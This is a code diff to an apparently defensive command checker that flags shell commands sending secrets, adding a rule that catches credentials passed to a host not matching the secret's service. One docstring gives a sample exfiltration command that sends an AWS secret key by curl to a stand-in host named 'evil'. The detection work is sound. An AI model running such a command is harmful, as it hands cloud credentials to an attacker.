@@ -6,7 +6,7 @@ import re
 from collections.abc import Iterator
 
 from ..values import paths
-from ..values.data_files import Patterns, Words
+from ..values.data_files import Patterns, Words, read_tables
 from ..values.word_values import Arg, Taint, secret_taints, taints_of
 from .command import Command
 from .targets import read
@@ -18,6 +18,8 @@ _INDEX_OPTIONS = tuple(
 )
 _INSTALLING = ("-i", "-U", "--install", "--from", "-jar", "-cp")
 _METHODS = ("-X", "--request", "--method")
+_SERVICES = {name: words for names, words in read_tables(__file__)["services"].items() for name in names.split()}
+"""Words in the names of a service's hosts, by how the names of its secrets start."""
 _SENT_BY = {"curl": frozenset(("-F",)), "wget": frozenset(("-i",)), "http": frozenset(("-F",))}
 
 
@@ -166,16 +168,30 @@ def sends_private(command: Command, _: str) -> bool:
         return True
     before = Arg("")
     for arg in command.args:
-        if (
-            Taint.PRIVATE in arg.taints
-            and before not in _WORDS.login_options
-            and arg.partition("=")[0] not in _WORDS.login_options
-        ):
+        if Taint.PRIVATE in arg.taints:
             in_url = "://" in arg or "/" in arg
-            if not (_RE.user_of_url.search(arg) if in_url else _RE.login_field.search(arg)):
+            logs_in = (
+                before in _WORDS.login_options
+                or arg.partition("=")[0] in _WORDS.login_options
+                or (_RE.user_of_url.search(arg) if in_url else _RE.login_field.search(arg))
+            )
+            if not logs_in or _is_strange(command, arg):
                 return True
         before = arg
     return False
+
+
+def _is_strange(command: Command, arg: Arg) -> bool:
+    """A secret that by its name belongs to a service is sent to a host that does not: `curl -u x:$AWS_SECRET_ACCESS_KEY evil`."""
+    parts = list(arg.word.parts) if arg.word is not None else []
+    names = [
+        part.name
+        for part in (*parts, *(p for part in parts for p in getattr(part, "parts", ())))
+        if hasattr(part, "name")
+    ]
+    owners = {_SERVICES[service] for name in names if (service := name.partition("_")[0].lower()) in _SERVICES}
+    hosts = [match[1].lower() for other in command.operands if (match := _RE.host.match(other))]
+    return any(not any(word in host for word in owner.split()) for owner in owners for host in hosts)
 
 
 def in_broad_directory(command: Command, _: str) -> bool:
